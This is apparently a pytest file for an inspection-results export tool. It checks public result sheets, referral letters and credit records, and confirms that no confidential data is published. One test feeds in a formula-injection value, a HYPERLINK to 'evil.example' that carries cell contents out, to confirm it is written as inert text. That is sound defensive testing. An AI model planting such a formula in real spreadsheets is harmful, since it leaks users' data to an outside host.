"""Public results (一公开), referral lists and credit records (issue 12, items 3 and 4): every concluded task is
published and nothing confidential is; each lead goes to its department; the credit file has its documented
layout; text that looks like a formula is written as text; refusals are words with exit 1.

The database is tests/case_helpers.py's: tasks A (rectification, open), B (referred to the police and the
judicial organs, closed) and C (investigated: penalty, revocation, listing; referred to the eco department,
closed). Expected values are written here or read with plain SQL, never from the code under test.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import date, datetime

import pytest

from app.domain.cases import Recipient
from app.domain.problems import InputRefused, NotFound
from tests import case_helpers as h
from tests.cli_helpers import call_main

needs_poppler = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils not installed")


@pytest.fixture
def lead(cases_lead):
    return cases_lead


def sheet(path) -> list[list]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    ws = wb.worksheets[0]
    return [[c.value for c in row] for row in ws.iter_rows()]


def cells(path) -> list:
    from openpyxl import load_workbook

    return [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]


def institution(db, task_id: str) -> dict:
    cursor = db.conn.execute("SELECT i.* FROM tasks t JOIN institutions i ON i.id = t.institution_id WHERE t.id = ?",
                             [task_id])
    return dict(zip([d[0] for d in cursor.description], cursor.fetchone()))


def check_day(db, task_id: str) -> datetime:
    started = db.conn.execute("SELECT started_at FROM tasks WHERE id = ?", [task_id]).fetchone()[0]
    return datetime(*map(int, started[:10].split("-")))  # the demo's visits run on one day, China time


def joint_units(db, task_id: str) -> list[str]:
    return [r[0] for r in db.conn.execute(
        "SELECT DISTINCT p.unit FROM task_members m JOIN inspectors p ON p.id = m.inspector_id"
        " WHERE m.task_id = ? AND p.department IN ('police', 'eco') ORDER BY m.position", [task_id])]


def confidential(db) -> list[str]:
    """Everything that must never be published: phone numbers (the institutions', the attendees', corrected on
    site, the inspectors'), photos (captions, hashes, file names), leads, notes, typical summaries, problems'
    descriptions."""
    values = []
    for sql in ("SELECT legal_rep_phone FROM institutions", "SELECT contact_phone FROM institutions",
                "SELECT top_manager_phone FROM institutions", "SELECT phone FROM inspectors",
                "SELECT phone FROM visit_attendees", "SELECT value FROM institution_corrections WHERE field LIKE '%phone'",
                "SELECT caption FROM photos", "SELECT sha256 FROM photos", "SELECT original_name FROM attachments",
                "SELECT text FROM referrals", "SELECT notes FROM cases", "SELECT typical_summary FROM cases",
                "SELECT description FROM findings"):
        values += [r[0] for r in db.conn.execute(sql) if r[0] and len(str(r[0]).strip()) >= 5]
    assert {h.T_POLICE, h.T_JUDICIAL, h.T_ECO, h.NOTES_A, h.TYPICAL_A} <= set(values)
    assert len([v for v in values if re.fullmatch(r"1\d{10}", v)]) >= 20  # the phone numbers are there to find
    return values


# --- public results ------------------------------------------------------------------------------------

def test_public_results_hold_every_concluded_task_with_its_result_and_handling(lead):
    from app.services.publication_export import export_results

    t = lead.tasks
    out = lead.tmp / "公示.xlsx"
    data = export_results(lead, out)
    assert (data["rows"], data["closed"], data["open"], data["waiting"]) == (3, 2, 1, 0)
    rows = sheet(out)
    assert rows[0] == ["序号", "机构名称", "统一社会信用代码", "资质认定证书编号", "检查类型", "抽查任务", "检查机关", "检查日期",
                       "检查结果", "处理情况", "办理状态"]
    by_code = {r[2]: r for r in rows[1:]}
    closed = [r[0] for r in lead.conn.execute("SELECT id FROM tasks WHERE status = 'closed'")]
    assert {t.b, t.c} == set(closed)
    for task in (t.a, t.b, t.c):
        inst = institution(lead, task)
        row = by_code[inst["credit_code"]]
        assert row[1] == inst["name"] and row[3] == inst["cma_cert_no"] and row[4] == "双随机抽查"
        plan = lead.conn.execute("SELECT p.title FROM draw_tasks d JOIN plans p ON p.id = d.plan_id"
                                 " WHERE d.task_id = ?", [task]).fetchone()
        # a task the plan's draw made is named by the plan; one handed down without a draw by its year
        title = plan[0] if plan else "2025年度检验检测机构监督抽查"
        assert row[5] == f"{title}（同市监认证〔2025〕92号）"
        assert row[6] == "、".join(["大同市市场监督管理局"] + joint_units(lead, task))
        assert row[7] == check_day(lead, task)
    a, b, c = (by_code[institution(lead, x)["credit_code"]] for x in (t.a, t.b, t.c))
    assert a[8:] == ["发现问题，已责令改正", "责令限期整改（2025-11-20前），已提交整改报告，待复查", "办理中"]
    assert b[8:] == ["发现问题，待后续处理", "已移交公安机关、司法机关处理", "已办结"]
    assert c[8:] == ["发现问题，待后续处理", "行政处罚决定书 同市监处罚〔2025〕12号（2025-11-30）：责令改正，罚款三万元；"
                     "撤销资质认定证书；已移交生态环境部门处理；列入严重违法失信名单（2025-12-05）", "已办结"]
    assert [r[0] for r in rows[1:]] == [1, 2, 3]


def test_closed_only_leaves_the_open_case_out_until_it_is_complete(lead):
    from app.services.cases import follow_up
    from app.services.publication_export import export_results

    t = lead.tasks
    a_code = institution(lead, t.a)["credit_code"]
    data = export_results(lead, lead.tmp / "closed.xlsx", closed_only=True)
    assert data["rows"] == 2 and a_code not in [r[2] for r in sheet(lead.tmp / "closed.xlsx")]
    follow_up(lead, t.a, rectification_checked_on=date(2025, 11, 25), rectification_accepted=True)
    export_results(lead, lead.tmp / "closed.xlsx", closed_only=True)
    row = next(r for r in sheet(lead.tmp / "closed.xlsx") if r[2] == a_code)
    assert row[9:] == ["责令限期整改（2025-11-20前），2025-11-25复查整改完成", "已办结"]


@needs_poppler
def test_nothing_confidential_is_published_in_the_workbook_or_the_announcement(lead):
    from app.services.publication_export import export_results

    out, pdf = lead.tmp / "公示.xlsx", lead.tmp / "公示.pdf"
    data = export_results(lead, out, pdf)
    assert data["pages"] == 1
    text = "".join(str(c.value) for c in cells(out) if c.value is not None)
    printed = re.sub(r"\s+", "", subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True,
                                               check=True).stdout)
    for secret in confidential(lead):
        assert secret not in text, secret
        assert re.sub(r"\s+", "", secret) not in printed, secret
    # the announcement has the same rows as the workbook
    assert "检验检测机构“双随机、一公开”监督抽查结果公示" in printed
    for row in sheet(out)[1:]:
        for value in (row[1], row[2], row[3], row[8], row[10]):
            assert re.sub(r"\s+", "", value) in printed, value
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert "Helvetica" not in fonts and "WenQuanYiMicroHei" in fonts


def test_a_signed_task_without_a_conclusion_is_not_published_and_is_counted(lead):
    from app.services.publication_export import export_results

    lead.conn.execute("PRAGMA foreign_keys = OFF")  # a case removed, as if never concluded
    lead.conn.execute("DELETE FROM referrals WHERE task_id = ?", [lead.tasks.b])
    lead.conn.execute("DELETE FROM cases WHERE task_id = ?", [lead.tasks.b])
    lead.conn.execute("UPDATE tasks SET status = 'signed' WHERE id = ?", [lead.tasks.b])
    lead.conn.commit()
    data = export_results(lead, lead.tmp / "p.xlsx")
    assert (data["rows"], data["waiting"]) == (2, 1)
    assert lead.tasks.b not in data["tasks"]


def test_public_results_of_an_unknown_plan_or_with_nothing_concluded_are_refused(lead, tmp_path):
    from app.services.publication_export import export_results

    with pytest.raises(NotFound, match="没有抽查计划"):
        export_results(lead, lead.tmp / "p.xlsx", plan_id="no-such-plan")
    lead.conn.execute("PRAGMA foreign_keys = OFF")
    lead.conn.execute("DELETE FROM referrals")
    lead.conn.execute("DELETE FROM result_notices")
    lead.conn.execute("DELETE FROM cases")
    lead.conn.commit()
    with pytest.raises(InputRefused, match="没有已作出处理结论的检查任务.*另有 3 项"):
        export_results(lead, lead.tmp / "p.xlsx")
    assert not (lead.tmp / "p.xlsx").exists()


# --- referral lists -------------------------------------------------------------------------------------

def test_each_lead_goes_to_its_department_and_only_there(lead):
    from app.services.publication_export import export_referrals

    t = lead.tasks
    b, c = institution(lead, t.b), institution(lead, t.c)
    expected = {
        Recipient.POLICE: [[1, b["name"], b["credit_code"], "14. 不得出具虚假检验检测数据、结果的要求。", h.T_POLICE,
                            datetime(2025, 10, 21), h.POLICE_LETTER, h.POLICE_DEPARTMENT]],
        Recipient.JUDICIAL: [[1, b["name"], b["credit_code"], "11. 规范出具检验检测报告。\n14. 不得出具虚假检验检测数据、结果的要求。",
                              h.T_JUDICIAL, datetime(2025, 10, 22), None, "司法机关（涉嫌犯罪移送）"]],
        Recipient.ECO: [[1, c["name"], c["credit_code"], "7. 检验检测过程规范要求。", h.T_ECO, datetime(2025, 10, 25), None,
                         "生态环境部门"]],
    }
    for to, rows in expected.items():
        out = lead.tmp / f"{to.value}.xlsx"
        data = export_referrals(lead, to, out)
        got = sheet(out)
        assert got[0] == ["序号", "机构名称", "统一社会信用代码", "检查任务", "现场检查笔录编号", "涉及检查项目", "问题线索",
                          "移交日期", "移送函编号", "接收单位"]
        assert [r[:3] + r[5:] for r in got[1:]] == rows, to
        task = t.b if to is not Recipient.ECO else t.c
        number = lead.conn.execute("SELECT document_prefix || '〔' || document_year || '〕第 ' || document_serial || ' 号'"
                                   " FROM tasks WHERE id = ?", [task]).fetchone()[0]
        assert got[1][4] == number and data["tasks"] == [task]
    with pytest.raises(InputRefused, match="没有移交其他部门的问题线索"):
        export_referrals(lead, Recipient.OTHER, lead.tmp / "other.xlsx")


def test_the_transfer_letter_lists_the_leads_for_its_department(lead):
    import docx

    from app.services.publication_export import export_referrals

    b = institution(lead, lead.tasks.b)
    for to, title, department, lead_text in ((Recipient.POLICE, "问题线索移送函", h.POLICE_DEPARTMENT, h.T_POLICE),
                                             (Recipient.JUDICIAL, "涉嫌犯罪案件移送函", "司法机关", h.T_JUDICIAL)):
        out = lead.tmp / f"{to.value}.docx"
        export_referrals(lead, to, lead.tmp / f"{to.value}.xlsx", out)
        document = docx.Document(str(out))
        words = "".join(p.text for p in document.paragraphs) + "".join(
            cell.text for table in document.tables for row in table.rows for cell in row.cells)
        for expected in ("大同市市场监督管理局", title, department + "：", b["name"], b["credit_code"], lead_text,
                         "2025-10-2", "送达回证", "同市监认证〔2025〕92号"):
            assert expected in words, expected
        other = h.T_JUDICIAL if to is Recipient.POLICE else h.T_POLICE
        assert other not in words and h.T_ECO not in words
    assert "行政执法机关移送涉嫌犯罪案件的规定" in words  # the judicial letter's basis
    police = docx.Document(str(lead.tmp / "police.docx"))
    assert h.POLICE_LETTER in "".join(p.text for p in police.paragraphs)


# --- credit records -------------------------------------------------------------------------------------

def documented_columns() -> list[str]:
    from pathlib import Path

    text = (Path(__file__).resolve().parent.parent / "docs" / "credit-records.md").read_text(encoding="utf-8")
    return re.findall(r"^\| [A-Z] \| (\S+) \|", text, flags=re.M)


def test_credit_records_have_one_row_per_institution_in_the_documented_layout(lead):
    from app.services.publication_export import export_credit

    t = lead.tasks
    out = lead.tmp / "信用.xlsx"
    data = export_credit(lead, out)
    rows = sheet(out)
    assert rows[0] == documented_columns() == [
        "统一社会信用代码", "机构名称", "记录类型", "处理结论", "决定日期", "作出决定机关", "处罚决定书文号", "处罚内容", "撤销资质认定",
        "列入严重违法失信名单", "列入日期", "检查结果", "信息来源", "办理状态"]
    assert data["rows"] == 3 == len(rows) - 1
    by_code = {r[0]: r for r in rows[1:]}
    assert [r[0] for r in rows[1:]] == sorted(by_code)
    a, b, c = (institution(lead, x) for x in (t.a, t.b, t.c))
    record = {x: lead.conn.execute("SELECT document_prefix || '〔' || document_year || '〕第 ' || document_serial"
                                   " || ' 号' FROM tasks WHERE id = ?", [x]).fetchone()[0] for x in (t.a, t.b, t.c)}
    organ = "大同市市场监督管理局"
    assert by_code[a["credit_code"]][1:] == [a["name"], "监督检查结果", "发现问题，责令整改", datetime(2025, 10, 20), organ,
                                             None, None, "否", "否", None, "发现问题，已责令改正",
                                             f"双随机抽查 {record[t.a]}", "办理中"]
    assert by_code[b["credit_code"]][1:] == [b["name"], "监督检查结果", "发现问题线索，移交有关部门处理", datetime(2025, 10, 20),
                                             organ, None, None, "否", "否", None, "发现问题，待后续处理",
                                             f"双随机抽查 {record[t.b]}", "已办结"]
    assert by_code[c["credit_code"]][1:] == [c["name"], "行政处罚", "发现违法行为，立案调查", datetime(2025, 11, 30), organ,
                                             h.PENALTY, h.PENALTY_TEXT, "是", "是", datetime(2025, 12, 5),
                                             "发现问题，待后续处理", f"双随机抽查 {record[t.c]}", "已办结"]
    text = "".join(str(c.value) for c in cells(out) if c.value is not None)
    for secret in confidential(lead):
        assert secret not in text, secret


# --- formulas and refusals -------------------------------------------------------------------------------

def test_text_that_looks_like_a_formula_is_written_as_text(lead):
    from app.services.cases import follow_up, refer
    from app.services.publication_export import export_credit, export_referrals

    t = lead.tasks
    sneaky = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    refer(lead, t.b, Recipient.OTHER, [11], sneaky, date(2025, 10, 23), "@SUM(1+1)", "+1-2")
    follow_up(lead, t.c, penalty_text="-1+2 罚款")
    export_referrals(lead, Recipient.OTHER, lead.tmp / "o.xlsx")
    export_credit(lead, lead.tmp / "c.xlsx")
    for path, values in ((lead.tmp / "o.xlsx", {sneaky, "@SUM(1+1)", "+1-2"}), (lead.tmp / "c.xlsx", {"-1+2 罚款"})):
        found = {c.value: c.data_type for c in cells(path) if c.value in values}
        assert found == {v: "s" for v in values}, path.name


def test_the_command_line_exports_and_refuses_in_words(lead, capsys):
    path = lead.path
    lead.conn.close()
    (lead.tmp / "folder.pdf").mkdir()
    (lead.tmp / "folder.docx").mkdir()
    run = call_main(capsys, ["--db", path, "--json", "results", "export", lead.tmp / "r.xlsx", "--pdf",
                             lead.tmp / "r.pdf"])
    assert run.status == 0, run.stderr
    assert (run.json["rows"], run.json["open"]) == (3, 1) and (lead.tmp / "r.pdf").read_bytes()[:5] == b"%PDF-"
    run = call_main(capsys, ["--db", path, "referrals", "export", "--to", "police", "--out", lead.tmp / "p.xlsx",
                             "--docx", lead.tmp / "p.docx"])
    assert run.status == 0 and "移交公安机关的问题线索 1 条" in run.stdout, run.stderr
    run = call_main(capsys, ["--db", path, "credit", "export", "--out", lead.tmp / "c.xlsx"])
    assert run.status == 0 and "3 家机构" in run.stdout, run.stderr
    for args, words in ((["results", "export", lead.tmp / "r.csv"], ".xlsx 结尾"),
                        (["results", "export", lead.tmp / "r.xlsx", "--pdf", lead.tmp / "r.docx"], ".pdf 结尾"),
                        (["results", "export", lead.tmp / "r.xlsx", "--plan", "nope"], "没有抽查计划"),
                        (["referrals", "export", "--to", "other", "--out", lead.tmp / "o.xlsx"], "没有移交其他部门"),
                        (["referrals", "export", "--to", "eco", "--out", lead.tmp / "missing" / "o.xlsx"], "不存在"),
                        (["credit", "export", "--out", lead.tmp / "c.txt"], ".xlsx 结尾"),
                        (["results", "export", lead.tmp / "r2.xlsx", "--pdf", lead.tmp / "folder.pdf"], "是一个文件夹"),
                        (["referrals", "export", "--to", "police", "--out", lead.tmp / "p2.xlsx", "--docx",
                          lead.tmp / "folder.docx"], "是一个文件夹")):
        run = call_main(capsys, ["--db", path, *args])
        assert run.status == 1 and words in run.stderr and "Traceback" not in run.stderr, (args, run.stderr)
    assert not (lead.tmp / "r2.xlsx").exists() and not (lead.tmp / "p2.xlsx").exists()  # refused before writing
